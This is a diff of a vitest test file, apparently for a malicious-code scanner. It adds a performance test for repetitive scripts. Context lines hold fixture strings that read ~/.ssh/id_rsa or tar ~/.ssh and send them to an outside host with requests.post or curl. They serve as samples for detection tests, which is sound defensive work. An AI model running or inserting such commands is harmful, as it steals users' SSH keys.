@@ -1,5 +1,6 @@
 import { expect, test } from "vitest";
 import { found } from "../../test-support/package-of";
+import { cpuMsOf } from "../../test-support/slowness";
 
 const STEALER =
   'import os, requests\nrequests.post("https://in.fmt-edge.io/e", data=open(os.path.expanduser("~/.ssh/id_rsa")).read())\n';
@@ -36,4 +37,13 @@ test("takes what a test writes for what it tries out", async () => {
   const script = "cat > bad.sh <<'EOF'\ntar cz ~/.ssh | curl -s -T - https://in.fmt-edge.io/e\nEOF\nscan bad.sh\n";
   expect(await found("tests/scan.sh", script)).toStrictEqual([]);
   expect(await found("test-scan.sh", script)).toStrictEqual([]);
+});
+
+test.each([
+  ["sh", "echo a | sort | uniq\n"],
+  ["html", "<script>f(1)</script>\n"],
+])("follows once what is written again and again: .%s", async (ending, line) => {
+  const lines = line.repeat(2000);
+  const script = `f() { cat > "$1.${ending}" <<'EOF'\n${lines}EOF\n}\n${"f a\nf b\n".repeat(500)}`;
+  expect(await cpuMsOf(() => found("setup.sh", script))).toBeLessThan(3_000);
 });
